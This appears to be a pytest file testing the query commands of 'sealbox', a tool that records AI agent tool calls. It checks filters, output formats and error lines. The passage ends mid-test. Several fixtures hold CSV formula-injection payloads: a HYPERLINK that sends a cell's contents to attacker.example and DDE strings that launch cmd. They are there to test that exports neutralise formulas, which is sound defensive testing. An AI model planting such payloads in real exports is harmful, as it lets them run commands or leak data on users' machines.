"""``sealbox calls``, ``sealbox runs list/show`` and ``sealbox snapshot show/diff``, run as real commands."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from query_helpers import BIG_TEXT, ids, sealbox


def ok_json(*args: str):
    proc = sealbox(*args)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def assert_one_error_line(proc, fragment: str) -> None:
    assert proc.returncode != 0
    assert proc.stdout == ""
    lines = proc.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and fragment in lines[0], proc.stderr
    assert "Traceback" not in proc.stderr


# ---------------------------------------------------------------- sealbox calls


def test_calls_json_lists_exactly_the_matching_calls(recorded):
    s = str(recorded.path)
    assert ids(ok_json("calls", "-s", s, "--json")) == ["a1", "a2", "a3", "a4", "b1", "b2", "b3", "b4", "c1", "d1"]
    assert ids(ok_json("calls", "-s", s, "--tool", "read_*", "--json")) == ["a1", "a2", "a4", "b2", "b4"]
    assert ids(ok_json("calls", "-s", s, "--server", "f?", "--json")) == ["b2", "b3"]
    assert ids(ok_json("calls", "-s", s, "--run", recorded.runs["B"], "--json")) == ["b1", "b2", "b3", "b4"]
    assert ids(ok_json("calls", "-s", s, "--agent", "support-bot", "--json")) == ["a1", "a2", "a3", "a4", "c1"]
    assert ids(ok_json("calls", "-s", s, "--principal", "agent:ops", "--json")) == ["d1"]
    assert ids(ok_json("calls", "-s", s, "--decision", "deny", "--json")) == ["a3", "b3"]
    assert ids(ok_json("calls", "-s", s, "--error", "--json")) == ["a4", "b2"]
    assert ids(ok_json("calls", "-s", s, "--no-error", "--json")) == ["a1", "a2", "b1", "b4", "c1"]
    assert ids(ok_json("calls", "-s", s, "--since", recorded.ts["b1"], "--until", recorded.ts["b3"], "--json")) == [
        "b1", "b2"]
    assert ids(ok_json("calls", "-s", s, "--match", "arguments.query~(?i)delete", "--json")) == ["a2", "a3"]
    assert ids(ok_json("calls", "-s", s, "--match", "arguments.query~(?i)delete", "--match", "decision~allow",
                       "--json")) == ["a2"]
    assert ids(ok_json("calls", "-s", s, "--match", "arguments.text~needle-7731", "--json")) == ["b4"]
    # a glob segment: any argument (arguments.*~x matched nothing: '*' was read as a key)
    assert ids(ok_json("calls", "-s", s, "--match", "arguments.*~(?i)delete|needle-7731", "--json")) == [
        "a2", "a3", "b4"]
    assert ids(ok_json("calls", "-s", s, "--tool", "read_*", "--limit", "2", "--json")) == ["b2", "b4"]
    assert ok_json("calls", "-s", s, "--tool", "nothing_like_this", "--json") == []


def test_calls_json_row_shape(recorded):
    (row,) = ok_json("calls", "-s", str(recorded.path), "--error", "--agent", "support-bot", "--json")
    assert row["call_id"] == "a4" and row["run_id"] == recorded.runs["A"]
    assert row["error"] == {"type": "ValueError", "message": "table orders is locked"}
    assert (row["decision"], row["rule"], row["outcome"], row["ok"]) == ("allow", "reads", "error", False)


def test_calls_csv_has_a_header_and_one_line_per_call(recorded):
    proc = sealbox("calls", "-s", str(recorded.path), "--server", "db", "--csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert proc.stdout.splitlines()[0] == ("ts,run_id,agent,principal,step,call_id,server,tool,exposed,grant,arguments,"
                                           "decision,rule,reason_code,outcome,ok,error,duration_us,approvers,flags")
    assert [r["call_id"] for r in rows] == ["a1", "a2", "a3", "a4", "b4"]
    assert json.loads(rows[0]["arguments"]) == {"query": "SELECT id FROM orders WHERE status = 'open'"}
    assert (rows[2]["decision"], rows[2]["ok"], rows[2]["outcome"]) == ("deny", "", "not_run")


def test_calls_table_is_the_default(recorded):
    proc = sealbox("calls", "-s", str(recorded.path), "--tool", "read_*", "--error")
    assert proc.returncode == 0, proc.stderr
    assert "Tool calls (2)" in proc.stdout
    assert "db/read_rows" in proc.stdout and "fs/read_file" in proc.stdout
    assert "error: ValueError: table orders is locked" in proc.stdout
    assert "web_search" not in proc.stdout


def test_calls_table_says_when_nothing_matches(recorded):
    proc = sealbox("calls", "-s", str(recorded.path), "--tool", "nothing_like_this")
    assert proc.returncode == 0 and proc.stdout == "" and proc.stderr == "no tool calls match\n"


def test_calls_by_a_gateway_exposed_name_says_which_tool_to_give(recorded):
    """`sealbox calls --tool db__write_query` (the name the agent's MCP client shows) said only
    "no tool calls match": calls are matched by upstream server and tool. It now names the --tool to give."""
    proc = sealbox("calls", "-s", str(recorded.path), "--tool", "db__write_query")
    assert (proc.returncode, proc.stdout) == (0, "")
    assert proc.stderr == ("no tool calls match\nnote: calls are matched by their upstream server and tool, not by the "
                           "name a gateway exposes: --tool db/write_query lists the calls 'db__write_query' names\n")
    assert sealbox("calls", "-s", str(recorded.path), "--tool", "db__nothing").stderr == "no tool calls match\n"


@pytest.mark.parametrize("args, fragment", [
    (["--match", "arguments.query~(unclosed"], "invalid regex '(unclosed'"),
    (["--match", "arguments.query"], "is not FIELD~REGEX"),
    (["--match", "argumnets.query~x"], "unknown field 'argumnets'"),
    (["--since", "yesterday"], "--since: 'yesterday' is not a time"),
    (["--until", "2026-11-29T12:00:00"], "has no timezone"),
    (["--decision", "maybe"], "--decision"),
    (["--limit", "0"], "--limit"),
])
def test_calls_bad_input_is_one_error_line(recorded, args, fragment):
    proc = sealbox("calls", "-s", str(recorded.path), *args)
    assert_one_error_line(proc, fragment)
    assert proc.returncode == 2


_DEEP = "(" * 500 + ")" * 500


@pytest.mark.parametrize("match, line", [
    ("arguments.city~a{99999999999}", "error: match: invalid regex 'a{99999999999}' in 'arguments.city~a{99999999999}': "
                                      "a number in it is too large (the repetition number is too large)"),
    (f"arguments~{_DEEP}", f"error: match: invalid regex {_DEEP[:79]!r}… in {('arguments~' + _DEEP)[:79]!r}…: "
                          "it is nested too deeply"),
    # a POSIX class, which Python re reads as a set of '[', ':', 'a'…: it printed Python's own FutureWarning
    # to stderr and matched other things than letters
    ("arguments.city~[[:alpha:]]+", "error: match: ambiguous regex '[[:alpha:]]+' in 'arguments.city~[[:alpha:]]+': "
                                    "Possible nested set at position 1 (Python re has no POSIX classes such as "
                                    "[[:alpha:]]; write \\[ for a literal '[' in a set)"),
])
def test_calls_match_regex_re_compile_cannot_build_is_one_error_line_exit_2(recorded, match, line):
    """re.compile raises OverflowError for a repeat count above its limit and RecursionError for groups
    nested hundreds deep (not re.error): both were "internal error", exit 70."""
    proc = sealbox("calls", "-s", str(recorded.path), "--match", match)
    assert (proc.returncode, proc.stdout, proc.stderr) == (2, "", line + "\n")


@pytest.mark.parametrize("limit", ["3000000000", str(2**63), "1" + "0" * 30])
def test_calls_and_runs_list_take_a_limit_above_a_c_int_as_all_rows(recorded, limit):
    """--limit 3000000000 reached cursor.fetchmany (a C int): OverflowError, exit 70; runs list took it.
    Both now read a limit above the number of rows as all of them."""
    s = str(recorded.path)
    assert ids(ok_json("calls", "-s", s, "--limit", limit, "--json")) == ids(ok_json("calls", "-s", s, "--json"))
    assert ids(ok_json("calls", "-s", s, "--tool", "read_*", "--limit", limit, "--json")) == [
        "a1", "a2", "a4", "b2", "b4"]
    runs = [r["run_id"] for r in ok_json("runs", "list", "-s", s, "--limit", limit, "--json")]
    assert runs == [r["run_id"] for r in ok_json("runs", "list", "-s", s, "--json")] and len(runs) == 7


@pytest.mark.parametrize("command", [["calls"], ["runs", "list"]])
@pytest.mark.parametrize("limit", ["0", "-1"])
def test_calls_and_runs_list_refuse_a_limit_below_1_alike(recorded, command, limit):
    proc = sealbox(*command, "-s", str(recorded.path), "--limit", limit)
    assert_one_error_line(proc, f"Invalid value for '--limit': {limit} is not in the range x>=1.")
    assert proc.returncode == 2


def test_calls_run_takes_a_unique_prefix_as_runs_show_does(recorded):
    s, run_b = str(recorded.path), recorded.runs["B"]
    others = [r for name, r in recorded.runs.items() if name != "B"]
    n = next(n for n in range(4, len(run_b)) if not any(r.startswith(run_b[:n]) for r in others))
    for prefix in (run_b[:n], run_b[:max(n, 13)], run_b):
        assert ids(ok_json("calls", "-s", s, "--run", prefix, "--json")) == ["b1", "b2", "b3", "b4"], prefix
    proc = sealbox("calls", "-s", s, "--run", run_b[:n], "--tool", "read_*")
    assert proc.returncode == 0 and "Tool calls (2)" in proc.stdout, proc.stderr


def test_calls_run_unknown_ambiguous_or_too_short_is_one_error_line_exit_2(recorded):
    import os

    s = str(recorded.path)
    common = os.path.commonprefix(list(recorded.runs.values()))
    assert len(common) >= 4  # run ids are time-ordered: runs recorded together share a prefix
    for args, message in (
            (["--run", "zzzz-not-a-run"], "error: no run 'zzzz-not-a-run' in this store"),
            (["--run", "zzzz-not-a-run", "--json"], "error: no run 'zzzz-not-a-run' in this store"),
            (["--run", "01"], "error: no run '01'; an id prefix needs at least 4 characters"),
            (["--run", common[:4]], f"error: run id prefix {common[:4]!r} is ambiguous: it starts ")):
        proc = sealbox("calls", "-s", s, *args)
        assert (proc.returncode, proc.stdout) == (2, ""), (args, proc.stderr)
        assert len(proc.stderr.splitlines()) == 1 and proc.stderr.startswith(message), proc.stderr
    # a run that exists but made no call is still "no tool calls match", exit 0
    proc = sealbox("calls", "-s", s, "--run", "system")
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, "", "no tool calls match\n")


def test_calls_on_a_missing_store_is_one_error_line(tmp_path):
    assert_one_error_line(sealbox("calls", "-s", str(tmp_path / "none")), "does not exist")


HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory):
    """A store whose agent, principal, tool, labels and call id are spreadsheet formulas."""
    from sealbox import init_store
    from sealbox.policies import ALLOW_ALL
    from sealbox.recorder import Recorder

    path = tmp_path_factory.mktemp("formulas") / "store"
    store = init_store(path)
    with Recorder(store, policy=ALLOW_ALL).run(agent=HYPERLINK, principal=DDE, labels={"k": "v"}) as run:
        run.call_tool("db", "=cmd|' /C calc'!A0", {"q": 1}, lambda **k: 1, call_id="+1+cmd|' /C calc'!A0")
        run.call_tool("db", "\tTAB", {}, lambda **k: 1, call_id="-2")
        run.call_tool("db", "\rCR", {}, lambda **k: 1, call_id="c3")
        run.call_tool("db", "plain'=", {}, lambda **k: 1, call_id="c4")
    store.close()
    return path


def csv_rows(*args: str) -> list[dict[str, str]]:
    """The rows of a ``--csv`` listing, read as bytes (text mode would turn a lone CR into LF)."""
    import os
    import subprocess

    from query_helpers import SEALBOX

    proc = subprocess.run([SEALBOX, *args, "--csv"], capture_output=True,
                          env={k: v for k, v in os.environ.items() if k != "SEALBOX_DEBUG"})
    assert proc.returncode == 0, proc.stderr
    return list(csv.DictReader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))


def test_csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_a_quote(formula_store):
    rows = csv_rows("calls", "-s", str(formula_store))
    assert [(r["agent"], r["principal"], r["call_id"], r["tool"], r["exposed"], r["grant"]) for r in rows] == [
        ("'" + HYPERLINK, "'" + DDE, "'+1+cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "db.=cmd|' /C calc'!A0",
         "implicit:" + DDE),
        ("'" + HYPERLINK, "'" + DDE, "'-2", "'\tTAB", "db.\tTAB", "implicit:" + DDE),
        ("'" + HYPERLINK, "'" + DDE, "c3", "'\rCR", "db.\rCR", "implicit:" + DDE),
        ("'" + HYPERLINK, "'" + DDE, "c4", "plain'=", "db.plain'=", "implicit:" + DDE),
    ]
    # numbers are written as numbers, JSON cells as JSON
    assert [(r["step"], r["arguments"], r["ok"], r["approvers"]) for r in rows] == [
        ("2", '{"q":1}', "true", "[]"), ("3", "{}", "true", "[]"), ("4", "{}", "true", "[]"),
        ("5", "{}", "true", "[]")]
    # --json and the table are not CSV: they keep the text as recorded
    assert [(r["agent"], r["tool"]) for r in ok_json("calls", "-s", str(formula_store), "--json")][:1] == [
        (HYPERLINK, "=cmd|' /C calc'!A0")]


def test_runs_list_and_show_csv_neutralise_formulas_too(formula_store):
    (row,) = csv_rows("runs", "list", "-s", str(formula_store), "--agent", HYPERLINK)
    assert (row["agent"], row["principal"], row["status"], row["events"], row["labels"]) == (
        "'" + HYPERLINK, "'" + DDE, "ended", "14", '{"k":"v"}')
    events = csv_rows("runs", "show", row["run_id"], "-s", str(formula_store))
    assert [(e["run_seq"], e["principal"]) for e in events] == [(str(n), "'" + DDE) for n in range(1, 15)]


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("'=1", "'=1"), ("", ""), (None, ""), (-1, "-1"), (-0.5, "-0.5"), (3, "3"), (True, "true"),
    ({"a": "=1"}, '{"a":"=1"}'), (["=1"], '["=1"]'),
])
def test_csv_cell(value, cell):
    from sealbox.cli.common import _csv_cell

    assert _csv_cell(value) == cell


# ---------------------------------------------------------------- sealbox runs


def test_runs_list_filters(recorded):
    s = str(recorded.path)
    run = recorded.runs
    got = lambda *a: [r["run_id"] for r in ok_json("runs", "list", "-s", s, "--json", *a)]  # noqa: E731
    assert got("--agent", "support-bot") == [run["C"], run["A"]]
    assert got("--principal", "agent:billing") == [run["B"]]
    assert got("--status", "error") == [run["C"]]
    assert got("--status", "suspended") == [run["F"]]
    assert got("--status", "ended", "--agent", "ops-bot") == [run["E"]]
    assert got("--label", "env=prod", "--label", "team=red") == [run["C"]]
    assert got("--snapshot", recorded.snapshots["S2"][:16]) == [run["B"]]
    assert got("--until", "1h") == []
    rows = ok_json("runs", "list", "-s", s, "--json", "--since", "1h", "--agent", "billing-bot")
    assert [(r["status"], r["ending"], r["parent_run_id"], r["labels"]) for r in rows] == [
        ("ended", "ok", run["A"], {"env": "staging"})]


@pytest.mark.parametrize("since", ["99999999d", "9999999999999999999999h"])
@pytest.mark.parametrize("command", [["calls"], ["runs", "list"], ["export", "-o", "{tmp}/out.sbx"],
                                     ["whatif", "--policy", "{tmp}/p.yaml"]])
def test_since_out_of_range_is_one_error_line_exit_2(recorded, tmp_path, command, since):
    (tmp_path / "p.yaml").write_text("version: 1\nname: p\nrules: []\n")
    before = recorded.open()
    size = before.size()
    before.close()
    proc = sealbox(*[a.format(tmp=tmp_path) for a in command], "-s", str(recorded.path), "--since", since)
    assert_one_error_line(proc, f"--since: '{since}' is out of range (times go from year 1 to 9999 UTC)")
    assert proc.returncode == 2
    assert not (tmp_path / "out.sbx").exists()
    after = recorded.open()
    assert after.size() == size
    after.close()


@pytest.mark.parametrize("args, fragment", [
    (["--status", "finished"], "--status"),
    (["--label", "env"], "label: 'env' is not KEY=VALUE"),
    (["--since", "soon"], "--since: 'soon' is not a time"),
])
def test_runs_list_bad_input_is_one_error_line(recorded, args, fragment):
    assert_one_error_line(sealbox("runs", "list", "-s", str(recorded.path), *args), fragment)


def test_runs_show_lists_parent_children_and_one_line_per_event(recorded):
    proc = sealbox("runs", "show", recorded.runs["A"], "-s", str(recorded.path))
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0].startswith(f"run      {recorded.runs['A']}  agent support-bot  principal agent:support  ended (ok)")
    assert lines[1] == "parent   (none)"
    assert lines[2:4] == ["children 1", f"  {recorded.runs['B']}  agent billing-bot  ended (ok)"]
    table = "\n".join(lines[4:])
    for header in ("ts", "kind", "tool", "decision", "duration"):
        assert header in table
    (decided,) = [line for line in lines if "policy.decision" in line and "db/write_query" in line]
    assert "deny" in decided
    child = sealbox("runs", "show", recorded.runs["B"], "-s", str(recorded.path)).stdout.splitlines()
    assert child[1] == f"parent   {recorded.runs['A']}" and child[2] == "children (none)"


def test_runs_show_names_the_runs_snapshot(recorded):
    """`sealbox snapshot diff FP_A FP_B` (README) needs the runs' fingerprints, which `runs show` did not
    print (only --json did): the header now says which snapshot the run ran under."""
    lines = sealbox("runs", "show", recorded.runs["A"], "-s", str(recorded.path)).stdout.splitlines()
    assert lines[4] == f"snapshot {recorded.snapshots['S1']}"
    child = sealbox("runs", "show", recorded.runs["B"], "-s", str(recorded.path)).stdout.splitlines()
    assert child[3] == f"snapshot {recorded.snapshots['S2']}"
    c_run = sealbox("runs", "show", recorded.runs["C"], "-s", str(recorded.path)).stdout.splitlines()
    assert c_run[3] == "snapshot (none)"


def test_runs_show_json_has_the_parent_and_children_the_table_shows(recorded):
    """--json printed the events only: the parent and children the table's header names were not
    in it. It is {"run": the run's row plus its children's rows, "events": [...]}."""
    s = str(recorded.path)
    parent = ok_json("runs", "show", recorded.runs["A"], "-s", s, "--json")
    child = ok_json("runs", "show", recorded.runs["B"], "-s", s, "--json")
    listed = {r["run_id"]: r for r in ok_json("runs", "list", "-s", s, "--json")}
    assert set(parent) == {"run", "events"}
    assert parent["run"] == {**listed[recorded.runs["A"]], "children": [listed[recorded.runs["B"]]],
                             "sub_runs": [{**listed[recorded.runs["B"]], "depth": 1}], "sub_runs_not_listed": 0}
    assert (parent["run"]["parent_run_id"], [c["run_id"] for c in parent["run"]["children"]]) == (
        None, [recorded.runs["B"]])
    assert (child["run"]["run_id"], child["run"]["agent"], child["run"]["parent_run_id"], child["run"]["children"]) == (
        recorded.runs["B"], "billing-bot", recorded.runs["A"], [])
    assert [e["kind"] for e in parent["events"]][0] == "run.started" and parent["events"][-1]["kind"] == "run.ended"
    # --csv stays one row per event (the parent is a column of `runs list --csv`)
    header = sealbox("runs", "show", recorded.runs["B"], "-s", s, "--csv").stdout.splitlines()[0]
    assert header == "run_seq,step,ts,kind,principal,tool,decision,duration_us,detail"


def test_runs_show_json_has_tool_decision_and_duration(recorded):
    rows = ok_json("runs", "show", recorded.runs["A"], "-s", str(recorded.path), "--json")["events"]
    assert [r["kind"] for r in rows][:4] == ["run.started", "tool.call", "policy.decision", "tool.result"]
    decisions = [(r["tool"], r["decision"]) for r in rows if r["kind"] == "policy.decision"]
    assert decisions == [("db/read_query", "allow"), ("db/read_query", "allow"), ("db/write_query", "deny"),
                         ("db/read_rows", "allow")]
    assert all(isinstance(r["duration_us"], int) for r in rows if r["kind"] == "tool.result")


def test_runs_show_unknown_run_is_one_error_line(recorded):
    assert_one_error_line(sealbox("runs", "show", "no-such-run", "-s", str(recorded.path)), "no run 'no-such-run'")


# ---------------------------------------------------------------- sealbox snapshot


def test_snapshot_show_prints_it_and_json_gives_the_fingerprinted_bytes(recorded):
    fp = recorded.snapshots["S1"]
    proc = sealbox("snapshot", "show", fp[7:19], "-s", str(recorded.path))  # a 12-digit prefix, no "sha256:"
    assert proc.returncode == 0, proc.stderr
    shown = json.loads(proc.stdout)
    assert shown["model"]["parameters"] == {"temperature": 0} and shown["tools"][0]["name"] == "read_query"
    assert proc.stdout.startswith("{\n  \"extra\": {}")  # indented, keys sorted
    exact = sealbox("snapshot", "show", fp, "--json", "-s", str(recorded.path)).stdout
    assert exact.endswith("\n") and "\n" not in exact[:-1]
    assert "sha256:" + hashlib.sha256(exact[:-1].encode()).hexdigest() == fp
    assert json.loads(exact) == shown


def test_snapshot_diff_lists_field_level_differences(recorded):
    s1, s2 = recorded.snapshots["S1"], recorded.snapshots["S2"]
    diffs = ok_json("snapshot", "diff", s1, s2, "-s", str(recorded.path), "--json")
    assert diffs == [
        {"path": "limits.max_tool_calls", "change": "removed", "a": 20, "b": None},
        {"path": "model.parameters.temperature", "change": "changed", "a": 0, "b": 0.7},
        {"path": "tools.fs/read_file", "change": "added", "a": None,
         "b": {"server": "fs", "name": "read_file", "description": "Read a file", "input_schema": {}, "version": None}},
    ]
    table = sealbox("snapshot", "diff", s1[:15], s2[:15], "-s", str(recorded.path))
    assert table.returncode == 0, table.stderr
    assert "3 differences" in table.stdout and "model.parameters.temperature" in table.stdout
    assert "(absent)" in table.stdout
    same = sealbox("snapshot", "diff", s1, s1, "-s", str(recorded.path))
    assert same.stdout == "no differences: both snapshots hold the same configuration\n"
    assert ok_json("snapshot", "diff", s1, s1, "-s", str(recorded.path), "--json") == []


@pytest.mark.parametrize("args, fragment", [
    (["show", "sha256:" + "0" * 64], "no snapshot"),
    (["show", "abc"], "FINGERPRINT 'abc' is too short: a snapshot prefix needs at least 8 hex digits"),
    (["show", "b114"], "FINGERPRINT 'b114' is too short"),
    (["show", "not-hex!"], "FINGERPRINT 'not-hex!' is not a snapshot fingerprint"),
    (["diff", "deadbeef", "cafe"], "B 'cafe' is too short"),
    (["diff", "deadbeefdeadbeef", "cafebabecafebabe"], "no snapshot 'deadbeefdeadbeef'"),
])
def test_unknown_snapshot_is_one_error_line(recorded, args, fragment):
    assert_one_error_line(sealbox("snapshot", *args, "-s", str(recorded.path)), fragment)


def test_snapshot_prefixes_are_case_insensitive_and_runs_list_asks_the_same_minimum(recorded):
    fp = recorded.snapshots["S1"]
    upper = sealbox("snapshot", "show", fp[7:19].upper(), "--json", "-s", str(recorded.path))
    assert upper.returncode == 0, upper.stderr
    assert upper.stdout == sealbox("snapshot", "show", fp, "--json", "-s", str(recorded.path)).stdout
    assert_one_error_line(sealbox("runs", "list", "--snapshot", fp[7:9], "-s", str(recorded.path)),
                          f"--snapshot '{fp[7:9]}' is too short: a snapshot prefix needs at least 8 hex digits")
    listed = ok_json("runs", "list", "--snapshot", "SHA256:" + fp[7:23].upper(), "--json", "-s", str(recorded.path))
    assert [r["snapshot"] for r in listed] and {r["snapshot"] for r in listed} == {fp}


def test_runs_list_of_a_snapshot_the_store_does_not_hold_is_an_error(recorded):
    # Regression (input: a mistyped fingerprint, `runs list --snapshot 96537900` for 965379e7): it answered
    # "no runs match", exit 0, as for a snapshot no run matching the other filters ran under; `calls --run`
    # and `snapshot show` of an id naming nothing are errors
    s = str(recorded.path)
    proc = sealbox("runs", "list", "--snapshot", "deadbeefdeadbeef", "-s", s)
    assert (proc.returncode, proc.stdout) == (2, "")
    assert proc.stderr == ("error: --snapshot: no snapshot 'deadbeefdeadbeef' in this store (`sealbox runs show RUN` "
                           "names the snapshot a run ran under)\n")
    assert ok_json("runs", "list", "--snapshot", recorded.snapshots["S2"][:16], "--agent", "nobody", "--json",
                   "-s", s) == []  # a snapshot the store holds: an empty listing stays one


def test_runs_show_detail_shows_an_argument_kept_as_a_blob_as_calls_does(recorded):
    # Regression (input: a tool argument above the inline size): the timeline showed
    # args={"query": ..., "text": {"$blob": "sha256:…"}} where `sealbox calls` showed the text
    rows = ok_json("runs", "show", recorded.runs["B"], "-s", str(recorded.path), "--json")["events"]
    (b4,) = [r for r in rows if r["kind"] == "tool.call" and r["payload"]["call_id"] == "b4"]
    assert b4["detail"] == 'db/read_query call b4 args={"query": "SELECT note FROM notes", "text": "lorem ipsum lo…'
    assert set(b4["payload"]["arguments"]["text"]) == {"$blob"}  # --json keeps the event's payload as recorded
    (call,) = ok_json("calls", "-s", str(recorded.path), "--match", "arguments.text~needle-7731", "--json")
    assert call["arguments"]["text"] == BIG_TEXT


def test_runs_list_says_when_its_limit_cut_the_listing(recorded):
    """runs list shows 50 runs by default: a store with more listed the newest 50 and said nothing,
    so an investigator took them for all the runs there are."""
    s = str(recorded.path)
    newest = [r["run_id"] for r in ok_json("runs", "list", "-s", s, "--json")]
    assert len(newest) == 7
    cut = sealbox("runs", "list", "-s", s, "--limit", "3")
    assert cut.returncode == 0 and cut.stderr == "the newest 3 runs shown; more match (--limit N to see more)\n"
    assert all(run_id in cut.stdout for run_id in newest[:3]) and not any(run_id in cut.stdout for run_id in newest[3:])
    cut_json = sealbox("runs", "list", "-s", s, "--limit", "3", "--json")
    assert [r["run_id"] for r in json.loads(cut_json.stdout)] == newest[:3]
    assert cut_json.stderr == "the newest 3 runs shown; more match (--limit N to see more)\n"
    whole = sealbox("runs", "list", "-s", s, "--limit", "7")
    assert whole.returncode == 0 and whole.stderr == "" and all(run_id in whole.stdout for run_id in newest)


def test_a_match_on_content_a_hashes_only_store_does_not_keep_is_refused(tmp_path):
    """In a hashes-only store `calls --match 'arguments.query~(?i)delete'` said "no tool calls match"
    (arguments are markers), which reads as "no call deleted anything"; `result~1` matched the
    markers' hex. Such a match is one error line, exit 2; tool, decision and error.type still match."""
    import sealbox as sb
    from sealbox.policies import ALLOW_ALL
    from sealbox.recorder import Recorder
    from sealbox.redaction import ContentPolicy

    path = tmp_path / "store"
    store = sb.init_store(path, content=ContentPolicy(mode="hashes-only"))
    with Recorder(store, policy=ALLOW_ALL).run(agent="a") as run:
        run.call_tool("db", "write_query", {"query": "DELETE FROM customers"}, lambda query: {"rows": 17})
        with pytest.raises(ValueError):
            run.call_tool("db", "read_query", {"query": "SELEC"}, lambda query: (_ for _ in ()).throw(ValueError("syntax")))
    store.close()
    for match, what in (("arguments.query~(?i)delete", "arguments"), ("result~1", "results"),
                        ("error.message~syntax", "error messages")):
        proc = sealbox("calls", "-s", str(path), "--match", match, "--json")
        assert_one_error_line(proc, f"match: {match!r} cannot be searched in this store: its content mode is "
                                    f"hashes-only, which keeps the calls' {what} only as markers")
        assert proc.returncode == 2 and proc.stdout == ""
        reader = sb.open_store(path, readonly=True)
        try:
            with pytest.raises(sb.ConfigError, match="cannot be searched in this store"):
                reader.query_calls(match=[match])
        finally:
            reader.close()
    assert ids(ok_json("calls", "-s", str(path), "--match", "tool~write", "--json")) == [ids(ok_json(
        "calls", "-s", str(path), "--json"))[0]]
    assert len(ok_json("calls", "-s", str(path), "--match", "error.type~ValueError", "--json")) == 1


def test_calls_tool_accepts_server_slash_tool_as_listings_print_it(recorded, tmp_path):
    # the tables print db/read_query; --tool db/read_query used to match nothing ("no tool calls match")
    s = str(recorded.path)
    assert ids(ok_json("calls", "-s", s, "--tool", "db/read_query", "--json")) == ["a1", "a2", "b4"]
    assert ids(ok_json("calls", "-s", s, "--tool", "db/*", "--json")) == ["a1", "a2", "a3", "a4", "b4"]
    assert ids(ok_json("calls", "-s", s, "--tool", "f?/*_file", "--json")) == ["b2", "b3"]
    assert ids(ok_json("calls", "-s", s, "--tool", "db/read_query", "--limit", "1", "--json")) == ["b4"]
    assert ok_json("calls", "-s", s, "--tool", "fs/read_query", "--json") == []
    # a tool whose own name holds a '/' (MCP allows it) is still found by that name, and as server/tool
    from sealbox import init_store
    from sealbox.policies import ALLOW_ALL
    from sealbox.recorder import Recorder

    store = init_store(tmp_path / "slash")
    with Recorder(store, policy=ALLOW_ALL).run(agent="a", principal="agent:a") as run:
        run.call_tool("db", "admin/drop", {}, lambda: 1, call_id="s1")
        run.call_tool("admin", "drop", {}, lambda: 1, call_id="s2")
    store.close()
    t = str(tmp_path / "slash")
    assert ids(ok_json("calls", "-s", t, "--tool", "admin/drop", "--json")) == ["s1", "s2"]
    assert ids(ok_json("calls", "-s", t, "--tool", "db/admin/drop", "--json")) == ["s1"]
    assert ids(ok_json("calls", "-s", t, "--tool", "drop", "--json")) == ["s2"]


def test_calls_match_in_a_redacted_store_says_how_many_calls_it_could_not_search(tmp_path):
    """--match on a redacted value answered "no tool calls match", which reads as "no call did that"."""
    from sealbox import init_store
    from sealbox.policies import ALLOW_ALL
    from sealbox.recorder import Recorder
    from sealbox.redaction import ContentPolicy

    store = init_store(tmp_path / "r", content=ContentPolicy(mode="redacted"))
    with Recorder(store, policy=ALLOW_ALL).run(agent="a", principal="agent:a") as run:
        run.call_tool("vault", "login", {"user": "bob", "password": "hunter2hunter2"}, lambda user, password: 1,
                      call_id="r1")
        run.call_tool("db", "q", {"query": "select 'hunter2hunter2'"}, lambda query: 1, call_id="r2")
        run.call_tool("db", "q", {"query": "select 1"}, lambda query: 1, call_id="r3")
    store.close()
    r = str(tmp_path / "r")
    proc = sealbox("calls", "-s", r, "--match", "arguments.password~hunter2")
    assert proc.returncode == 0 and proc.stdout == ""
    assert proc.stderr == ("note: 1 other call(s) hold redacted values where --match looked "
                           "(arguments.password), which it cannot search: they are not listed "
                           "(docs/content-modes.md)\nno tool calls match\n")
    proc = sealbox("calls", "-s", r, "--match", "arguments.*~hunter2|select 1", "--json")
    assert ids(json.loads(proc.stdout)) == ["r3"]
    assert proc.stderr == ("note: 2 other call(s) hold redacted values where --match looked (arguments.*), which it "
                           "cannot search: they are not listed (docs/content-modes.md)\n")
    proc = sealbox("calls", "-s", r, "--match", "arguments.user~bob", "--json")  # nothing hidden: no note
    assert ids(json.loads(proc.stdout)) == ["r1"] and proc.stderr == ""


def test_an_empty_time_window_is_one_error_line_not_no_calls_match(recorded):
    """`--since 2026-12-03 --until 2026-12-03` (meaning that day) answered "no tool calls match"."""
    s = str(recorded.path)
    proc = sealbox("calls", "-s", s, "--since", "2026-12-03", "--until", "2026-12-03")
    assert_one_error_line(proc, "error: --until '2026-12-03' (2026-12-03T00:00:00.000000Z) is not after --since "
                                "'2026-12-03' (2026-12-03T00:00:00.000000Z): no time is in that window (--since is "
                                "inclusive, --until exclusive: for the whole of one day, give --until the next day)")
    assert proc.returncode == 2
    proc = sealbox("runs", "list", "-s", s, "--since", "1h", "--until", "2h")
    assert_one_error_line(proc, "is not after --since '1h'")
    assert ids(ok_json("calls", "-s", s, "--since", recorded.ts["b1"], "--until", recorded.ts["b3"], "--json")) == [
        "b1", "b2"]


def test_runs_show_csv_and_json_keep_a_call_s_whole_arguments(tmp_path):
    """`runs show --csv` cut a call's arguments to 60 characters (`DELETE FROM customers WHERE email
    LIKE '%te…`): a spreadsheet got a query that was never run, and no other column holds them. The
    table and --json's detail still shorten them (--json has the payload)."""
    import sealbox as sb

    store = sb.init_store(tmp_path / "s")
    query = "DELETE FROM customers WHERE email LIKE '%test%' AND created_at < '2026-01-01' AND id > 100"
    with sb.Recorder(store, policy=sb.policies.ALLOW_ALL).run(agent="bot") as run:
        run.call_tool("db", "write_query", {"query": query}, lambda query: 17)
    store.close()
    proc = sealbox("runs", "show", run.run_id, "-s", str(tmp_path / "s"), "--csv")
    assert proc.returncode == 0, proc.stderr
